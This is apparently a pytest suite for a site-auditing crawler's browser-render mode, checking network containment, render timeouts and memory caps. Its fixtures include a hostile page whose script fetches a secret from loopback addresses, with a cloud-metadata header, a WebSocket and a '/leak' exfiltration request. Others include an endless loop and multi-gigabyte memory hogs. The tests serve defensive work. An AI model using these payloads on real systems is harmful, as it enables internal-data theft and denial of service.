"""``--render`` cannot be turned against the machine, nor held by a page (over a socket).

A rendered page's scripts run in a browser the crawler drives; the browser has
no network of its own, and every request it makes is sent by the crawler under
the same network rule as a link (crawler.http.address_rule). The "public" site
is reached by name through a forward proxy (as in ``test_network_boundary``); a
"secret" server on another loopback port must never be asked anything. A page
whose script never yields is stopped from outside at ``--render-timeout``.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from browser import chromium_path
from conftest import REPO, run_cli
from forward_proxy import running_proxy
from siteserver import RunningServer

pytestmark = pytest.mark.timeout(180)

SECRET = "TOPSECRET-4242"
# Playwright's switch that lets Chromium's own loopback traffic skip the browser's
# proxy: set for every run here, so containment cannot rest on Playwright's default
LOOPBACK_SWITCH = {"PLAYWRIGHT_DISABLE_FORCED_CHROMIUM_PROXIED_LOOPBACK": "1"}


def _secret(tmp_path: Path) -> Path:
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "secret.txt").write_text(SECRET)
    return secret


def _site(tmp_path: Path, secret_port: int) -> Path:
    site = tmp_path / "public"
    site.mkdir()
    s = secret_port
    (site / "index.html").write_text(f"""<!doctype html><title>Home</title>
<link rel="preconnect" href="http://127.0.0.1:{s}">
<link rel="preconnect" href="http://[::1]:{s}">
<link rel="dns-prefetch" href="http://localhost:{s}">
<link rel="prefetch" href="http://127.0.0.1:{s}/secret.txt?link-prefetch">
<script type="speculationrules">
{{"prefetch": [{{"source": "list", "urls": ["http://127.0.0.1:{s}/secret.txt?prefetch",
                                          "http://[::1]:{s}/secret.txt?prefetch"]}}],
 "prerender": [{{"source": "list", "urls": ["http://127.0.0.1:{s}/secret.txt?prerender"]}}]}}
</script>
<div id="out"></div>
<script>
const leak = (text) => fetch("/leak?d=" + encodeURIComponent(text)).catch(() => {{}});
for (const url of ["http://127.0.0.1:{s}/secret.txt", "http://[::1]:{s}/secret.txt",
                   "http://localhost:{s}/secret.txt"]) {{
  fetch(url, {{headers: {{"Metadata-Flavor": "Google"}}}})
    .then((r) => r.text()).then((t) => {{ document.title = t; leak(t); }})
    .catch(() => {{}});
}}
fetch("http://127.0.0.1:{s}/secret.txt", {{method: "POST", body: "x"}}).catch(() => {{}});
try {{
  const socket = new WebSocket("ws://127.0.0.1:{s}/socket");
  socket.onmessage = (m) => leak(String(m.data));
}} catch (e) {{}}
const a = document.createElement("a");
a.href = "/second.html";
a.textContent = "second";
document.getElementById("out").append(a);
</script>""")
    (site / "second.html").write_text("<!doctype html><title>Second</title><p>hello</p>")
    return site


@pytest.mark.slow(6)
def test_a_rendered_pages_scripts_reach_no_private_address(tmp_path: Path) -> None:
    report = tmp_path / "audit.json"
    with RunningServer(_secret(tmp_path)) as secret:
        with RunningServer(_site(tmp_path, secret.port)) as site, \
                running_proxy(names={"www.public.test": site.port}) as (proxy, _seen):
            run = run_cli("audit", "http://www.public.test/", "--report", str(report),
                          "--render", "always", "--render-timeout", "4",
                          "--browser", chromium_path(), "--compare-sitemap", "off",
                          proxy_env={"http_proxy": proxy}, env_extra=LOOPBACK_SWITCH,
                          timeout=150)
            site_paths = [hit.path for hit in site.log]
        assert secret.log == [], [(hit.method, hit.path) for hit in secret.log]
    assert run.code in (0, 1), run.stderr
    text = report.read_text()
    assert SECRET not in text
    assert not [path for path in site_paths if path.startswith("/leak")]
    found = json.loads(text)
    rows = {row["url"]: row for row in found["urls"]}
    assert "http://www.public.test/second.html" in rows  # the page was rendered and read
    errors = [(item["url"], item["error"]) for item in
              found["findings"]["render-errors"]["items"]]
    assert ("http://www.public.test/", "private-address:fetch") in errors, errors
    assert ("http://www.public.test/", "websocket-refused") in errors, errors


@pytest.mark.slow(10)
def test_a_script_that_never_yields_is_stopped_at_the_render_timeout(tmp_path: Path) -> None:
    site = tmp_path / "site"
    site.mkdir()
    links = "".join(f'<a href="/p{n}.html">p{n}</a>' for n in range(4))
    (site / "index.html").write_text(
        f"<!doctype html><title>Home</title>{links}<a href='/hang.html'>hang</a>")
    (site / "hang.html").write_text(
        "<!doctype html><title>Hang</title><a href='/after.html'>after</a>"
        "<script>setTimeout(() => { while (true) {} }, 30);</script>")
    (site / "after.html").write_text("<!doctype html><title>After</title>")
    for n in range(4):
        (site / f"p{n}.html").write_text(f"<!doctype html><title>P{n}</title>")
    report = tmp_path / "audit.json"
    with RunningServer(site) as server:
        started = time.monotonic()
        run = run_cli("audit", server.url + "/", "--report", str(report),
                      "--render", "always", "--render-timeout", "3",
                      "--browser", chromium_path(), "--compare-sitemap", "off",
                      env_extra=LOOPBACK_SWITCH, timeout=150)
        took = time.monotonic() - started
    assert run.code in (0, 1), run.stderr
    found = json.loads(report.read_text())
    rows = {row["url"].removeprefix(server.url): row for row in found["urls"]}
    # every page was read: the hung one as it stood, the others alongside it
    assert {"/", "/hang.html", "/after.html", "/p0.html", "/p3.html"} <= set(rows)
    errors = [(item["url"].removeprefix(server.url), item["error"]) for item in
              found["findings"]["render-errors"]["items"]]
    assert ("/hang.html", "timeout") in errors, errors
    # bounded by the timeout, not by the endless loop (which never ends by itself);
    # generous for a loaded machine: what matters is that it ends
    assert took < 90, took


def _tree_pss_mb(root: int) -> float:
    """The summed PSS of ``root`` and every process under it (shared pages counted
    once overall), in MB: what the whole crawl costs the machine."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                parents[int(entry.name)] = int(
                    (entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
    tree, grew = {root}, True
    while grew:
        grew = False
        for pid, parent in parents.items():
            if parent in tree and pid not in tree:
                tree.add(pid)
                grew = True
    total = 0
    for pid in tree:
        try:
            for line in Path(f"/proc/{pid}/smaps_rollup").read_text().splitlines():
                if line.startswith("Pss:"):
                    total += int(line.split()[1])
        except (OSError, ValueError):
            continue
    return total / 1024


def _peak_of_a_run(*args: str) -> tuple[int, float, str]:
    """The CLI run, its whole process tree's PSS sampled every 0.5 s; the exit code,
    the peak in MB, and stderr. (A look costs about 0.1 s of CPU on a crawl's browsers;
    a page past its cap, left alone, holds its gigabytes until the render timeout, so
    a look every half second sees it.)"""
    process = subprocess.Popen([sys.executable, "-m", "crawler", *args], cwd=REPO,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               env={**os.environ, "NO_PROXY": "*", **LOOPBACK_SWITCH})
    peak = 0.0
    deadline = time.monotonic() + 170
    while process.poll() is None and time.monotonic() < deadline:
        peak = max(peak, _tree_pss_mb(process.pid))
        time.sleep(0.5)
    _out, err = process.communicate(timeout=30)
    return process.returncode, peak, err


@pytest.mark.slow(17)
def test_a_page_that_eats_memory_dies_alone_and_the_crawl_goes_on(tmp_path: Path) -> None:
    """A page allocating 1.6 GB of JavaScript heap, and one 3.2 GB of buffers outside
    it, are each stopped at their renderer's cap (``render-errors``: out of memory);
    the pages rendered beside them are read; and the whole crawl, two workers with a
    browser each, stays within the 1.5 GB budget of two workers."""
    site = tmp_path / "site"
    site.mkdir()
    links = "".join(f'<a href="/p{n}.html">p{n}</a>' for n in range(3))
    (site / "index.html").write_text(
        f"<!doctype html><title>Home</title>{links}<a href='/hog.html'>hog</a>"
        "<a href='/buffers.html'>buffers</a>")
    # outside the JavaScript heap (typed arrays' buffers): V8's cap does not see it,
    # 40 MB more every 50 ms up to 3.2 GB, the page never calm meanwhile
    (site / "buffers.html").write_text(
        "<!doctype html><title>Buffers</title><script>"
        "window.keep = []; const more = () => {"
        "window.keep.push(new Float64Array(5e6).fill(1));"
        "document.title = String(window.keep.length); };"
        "more(); const grow = setInterval(() => {"
        "more(); if (window.keep.length >= 80) clearInterval(grow); }, 50);"
        "</script>")
    (site / "hog.html").write_text(
        "<!doctype html><title>Hog</title><script>"
        "window.keep = [];"
        "for (let i = 0; i < 200; i++) window.keep.push(new Array(1e6).fill(i + 0.5));"
        "</script>")
    for n in range(3):
        (site / f"p{n}.html").write_text(
            f"<!doctype html><title>P{n}</title><script>setTimeout(() => {{"
            f"const a = document.createElement('a'); a.href = '/js{n}.html';"
            f"document.body.append(a); }}, 300);</script>")
        (site / f"js{n}.html").write_text(f"<!doctype html><title>JS{n}</title>")
    report = tmp_path / "audit.json"
    with RunningServer(site) as server:
        code, peak_mb, stderr = _peak_of_a_run(
            # a deadline far past what the pages need to pass their caps: on a loaded
            # machine a tab in the background has its timers throttled to one a second,
            # and the buffers page, read at an 8 s deadline, had not passed its cap yet
            "audit", server.url + "/", "--report", str(report), "--render", "always",
            "--render-timeout", "20", "--browser", chromium_path(), "--workers", "2",
            "--compare-sitemap", "off", "--no-check-external")
    assert code in (0, 1), stderr
    found = json.loads(report.read_text())
    rows = {row["url"].removeprefix(server.url): row for row in found["urls"]}
    # the links each page's script added were found: the pages beside the hog rendered
    assert {f"/js{n}.html" for n in range(3)} <= set(rows), sorted(rows)
    assert rows["/hog.html"]["rendered"] is False and rows["/buffers.html"]["rendered"] is False
    errors = {item["url"].removeprefix(server.url): item for item in
              found["findings"]["render-errors"]["items"] if item["error"] == "crash"}
    assert "out of memory" in errors["/hog.html"]["detail"]
    assert "out of memory" in errors["/buffers.html"]["detail"]
    assert set(errors) == {"/hog.html", "/buffers.html"}  # no other page paid for them
    assert peak_mb < 1500, peak_mb  # 4.8 GB asked for; the budget of two workers


@pytest.mark.slow(7)
@pytest.mark.parametrize("delay", [5, 0.1])
def test_a_page_still_loading_at_the_deadline_is_a_timeout(tmp_path: Path, delay: float
                                                          ) -> None:
    """Under load a page may not even have loaded its scripts by ``--render-timeout``:
    it must be reported as a timeout, whatever state the browser is in then. A script
    held 5 s by the server stands for that load; a page that never settles stands for
    the rest (its chain of short timers never lets it)."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text(
        "<!doctype html><title>Home</title><a href='/slow.html'>slow</a>"
        "<a href='/never.html'>never</a>")
    (site / "slow.html").write_text(
        "<!doctype html><title>Slow</title><script src='/slow.js'></script><p>x</p>")
    (site / "slow.js").write_text("document.title = 'loaded';")
    (site / "never.html").write_text(
        "<!doctype html><title>Never</title><div id='app'></div><script>let n = 0;"
        "const tick = () => { document.getElementById('app').textContent = ++n;"
        "setTimeout(tick, 20); }; tick();</script>")
    report = tmp_path / "audit.json"
    with RunningServer(site, routes={"/slow.js": {"delay": delay}}) as server:
        run = run_cli("audit", server.url + "/", "--report", str(report), "--render",
                      "always", "--render-timeout", "2", "--browser", chromium_path(),
                      "--compare-sitemap", "off", env_extra=LOOPBACK_SWITCH, timeout=150)
    assert run.code in (0, 1), run.stderr
    errors = [(item["url"].removeprefix(server.url), item["error"]) for item in
              json.loads(report.read_text())["findings"]["render-errors"]["items"]]
    assert ("/never.html", "timeout") in errors, errors
    if delay > 2:
        assert ("/slow.html", "timeout") in errors, errors
    assert not [error for error in errors if error[1] == "crash"], errors


def test_a_page_the_browser_is_still_navigating_at_the_deadline_is_a_timeout(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What a loaded machine does to a page that never settles: at ``--render-timeout``
    the browser has not finished committing it, and asking for its DOM fails with
    "the page is navigating". That is a page hitting its deadline (``timeout``), not a
    crash to be retried in a new browser (which, still loaded, failed the same way and
    reported ``crash``: the flake seen under load). The real CLI runs in this process,
    against a real server and browser, with the browser's answer put in."""
    from click.testing import CliRunner
    from playwright.async_api import Error as PlaywrightError
    from playwright.async_api import Page

    import crawler.cli.commands as cli_module

    original = Page.content

    async def still_navigating(self: Page) -> str:
        if self.url.endswith("/never.html"):
            raise PlaywrightError("Page.content: Unable to retrieve content because the "
                                  "page is navigating and changing the content.")
        return await original(self)

    monkeypatch.setattr(Page, "content", still_navigating)
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("<!doctype html><title>Home</title>"
                                     "<a href='/never.html'>never</a>")
    (site / "never.html").write_text(
        "<!doctype html><title>Never</title><div id='app'></div><script>let n = 0;"
        "const tick = () => { document.getElementById('app').textContent = ++n;"
        "setTimeout(tick, 20); }; tick();</script>")
    report = tmp_path / "audit.json"
    for name, value in LOOPBACK_SWITCH.items():
        monkeypatch.setenv(name, value)
    with RunningServer(site) as server:
        result = CliRunner().invoke(cli_module.cli, [
            "audit", server.url + "/", "--report", str(report), "--render", "always",
            "--render-timeout", "1", "--browser", chromium_path(), "--compare-sitemap",
            "off", "--no-check-external"], standalone_mode=False)
    assert result.return_value == 0, result.output
    errors = [(item["url"].removeprefix(server.url), item["error"]) for item in
              json.loads(report.read_text())["findings"]["render-errors"]["items"]]
    # never.html a timeout, and nothing a crash; on a machine loaded past its cores the
    # home page too can miss the 1 s deadline (two busy loops beside the suite did so)
    assert ("/never.html", "timeout") in errors, errors
    assert {error for _url, error in errors} == {"timeout"}, errors
